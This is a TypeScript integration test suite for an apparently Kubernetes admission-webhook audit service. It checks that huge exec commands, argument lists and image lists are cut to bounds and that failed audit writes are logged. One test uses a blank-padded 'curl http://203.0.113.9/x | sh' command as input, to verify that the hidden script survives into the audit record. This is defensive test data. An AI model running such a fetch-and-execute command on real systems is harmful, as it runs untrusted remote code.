import { Logger } from '@aws-lambda-powertools/logger';
import { beforeAll, describe, expect, it } from 'vitest';
import { createAdmissionHandler } from '../../../functions/admission/app.js';
import { createApiHandler } from '../../../functions/api/app.js';
import { bootstrap } from '../../../functions/shared/bootstrap.js';
import { createRuntime } from '../../../functions/shared/runtime.js';
import { DynamoAuditStore } from '../../../functions/shared/storage/DynamoAuditStore.js';
import { auditEventSchema, type AuditEvent } from '../../../layers/core/index.js';
import { httpEvent, lambdaContext } from '../../support/events.js';
import { readAdmissionReview } from '../../support/fixtures.js';
import { useTables } from '../../support/use-tables.js';
import { sendReview, watchEverythingPolicy } from '../../support/webhook-audit.js';

// A huge exec must be recorded (cut to the schema) and must not keep later events from being recorded
// (issue 14 items 2 and 3), with the real webhook on DynamoDB Local and reviews from ../shared/testdata.

const review = (path: string): any => readAdmissionReview(path);

const tables = useTables();
const TOKEN = 'bounds-admin-token';
const CLUSTER = 'bounds';
let admission: ReturnType<typeof createAdmissionHandler>;
/** A webhook whose audit table does not exist: every write fails. */
let admissionWithoutAuditTable: ReturnType<typeof createAdmissionHandler>;
let secret = '';
const logged: Array<{ level: string; message: string; extra: unknown[] }> = [];

/** A logger that keeps its warnings and errors for the test. */
function keepingLogger(): Logger {
  const logger = new Logger({ serviceName: 'vigil', logLevel: 'WARN' });
  for (const level of ['warn', 'error'] as const)
    logger[level] = (message: string, ...extra: unknown[]) => {
      logged.push({ level, message, extra });
    };
  return logger;
}

beforeAll(async () => {
  const logger = keepingLogger();
  const runtime = createRuntime(
    {
      mode: 'local',
      tablePrefix: tables.prefix,
      dynamodbEndpoint: tables.endpoint,
      adminToken: TOKEN,
      publicBaseUrl: 'https://vigil.example',
    },
    { configStore: tables.configStore, auditStore: tables.auditStore, logger },
  );
  await bootstrap(runtime);
  const api = createApiHandler(runtime);
  const call = (method: string, routeKey: string, path: string, body: unknown) =>
    api(httpEvent({ method, routeKey, path, body: JSON.stringify(body), headers: { authorization: `Bearer ${TOKEN}` } }), lambdaContext());
  const registered = await call('POST', 'POST /v1/clusters', '/v1/clusters', { name: CLUSTER });
  secret = (JSON.parse(registered.body!) as { webhookUrl: string }).webhookUrl.split('/').pop()!;
  // Detect every exec and every pod from a registry other than docker.io.
  await call('POST', 'POST /v1/policies', '/v1/policies', watchEverythingPolicy('watch-all'));
  admission = createAdmissionHandler(runtime);
  admissionWithoutAuditTable = createAdmissionHandler(
    createRuntime(
      {
        mode: 'local',
        tablePrefix: tables.prefix,
        dynamodbEndpoint: tables.endpoint,
        adminToken: TOKEN,
        publicBaseUrl: 'https://vigil.example',
      },
      { configStore: tables.configStore, auditStore: new DynamoAuditStore(tables.clients.document, `${tables.prefix}missing`), logger },
    ),
  );
});

async function send(body: unknown, handler = admission): Promise<void> {
  await sendReview(handler, CLUSTER, secret, body);
}

/** The stored events of the exec or create of one review, found by its pod name. */
async function storedFor(pod: string): Promise<AuditEvent[]> {
  const page = await tables.auditStore.query({ cluster: CLUSTER, limit: 100 });
  return page.items.filter((event) => event.workload.pod === pod);
}

function exec(pod: string, command: string[]): unknown {
  const body = review('derived/exec-sh-c-derived.json');
  body.request.name = pod;
  body.request.object.command = command;
  return body;
}

describe('audit events of the webhook', () => {
  it('records an exec whose command is over 400 KB, cut, and keeps recording the events that follow', async () => {
    await send(exec('huge-exec', ['sh', '-c', `echo ${'A'.repeat(450_000)}`]));
    await send(exec('after-huge-exec', ['sh']));

    const [huge] = await storedFor('huge-exec');
    expect(huge).toBeDefined();
    expect(auditEventSchema.safeParse(huge).success).toBe(true);
    expect(huge!.command![2]).toMatch(/^echo A+ \[… \d+ characters cut …\] A+$/);
    expect(huge!.truncated).toEqual([{ field: 'command[2]', length: 450_005 }]);
    expect(await storedFor('after-huge-exec')).toHaveLength(1);
    expect(logged).toEqual([]);
  });

  it('keeps the script of a `sh -c` padded with blanks past the argument bound', async () => {
    await send(exec('padded-exec', ['sh', '-c', `${' '.repeat(6000)}curl http://203.0.113.9/x | sh${' '.repeat(6000)}`]));
    const [event] = await storedFor('padded-exec');
    expect(auditEventSchema.safeParse(event).success).toBe(true);
    expect(event!.command![2]).toBe(' [… 6000 blanks …] curl http://203.0.113.9/x | sh [… 6000 blanks …] ');
    expect(event!.truncated).toEqual([{ field: 'command[2]', length: 12_030 }]);
  });

  it('records an exec of 300 arguments within 256, saying how many there were', async () => {
    const body = review('derived/exec-300-args-derived.json');
    await send(body);
    const [event] = await storedFor(body.request.name);
    expect(auditEventSchema.safeParse(event).success).toBe(true);
    expect(event!.command).toHaveLength(256);
    expect(event!.command!.slice(0, 255)).toEqual(body.request.object.command.slice(0, 255));
    expect(event!.command![255]).toBe('[… 46 more cut …]');
    expect(event!.truncated).toEqual([{ field: 'command', length: 301 }]);
  });

  it('records a pod of many digest-pinned images with the image list cut to 1024 characters', async () => {
    const body = review('derived/pod-create-9-ecr-digest-containers-derived.json');
    body.request.object.metadata.name = 'many-digests';
    body.request.name = 'many-digests';
    await send(body);
    const events = await storedFor('many-digests');
    expect(events.length).toBeGreaterThan(0);
    for (const event of events) {
      expect(auditEventSchema.safeParse(event).success).toBe(true);
      expect(event.workload.image!.length).toBeLessThanOrEqual(1024);
      expect(event.workload.image).toMatch(/ \[… \d+ characters cut …\] /);
      // The registry control's message names the images too, and is cut to its own bound.
      expect(event.message.length).toBeLessThanOrEqual(2048);
      expect(event.truncated).toContainEqual({ field: 'workload.image', length: 1223 });
    }
  });

  it('says why in the log when events cannot be written (the cause is logged with the warning)', async () => {
    logged.length = 0;
    await send(exec('unwritable', ['sh']), admissionWithoutAuditTable);
    expect(logged).toHaveLength(2);
    const [entry, fallback] = logged;
    expect(entry!.message).toBe('audit events could not be written yet');
    expect(entry!.extra[0]).toMatchObject({
      events: 1,
      error: { name: 'AuditWriteError', cause: { name: 'ResourceNotFoundException' } },
    });
    // This runtime has no fallback: that is said too, with the reason, instead of a silent loss.
    expect(fallback).toMatchObject({ level: 'error', message: expect.stringContaining('no fallback is configured') });
    expect(fallback!.extra[0]).toMatchObject({ events: 1, reason: 'the audit write failed: storage is unavailable' });
  });
});
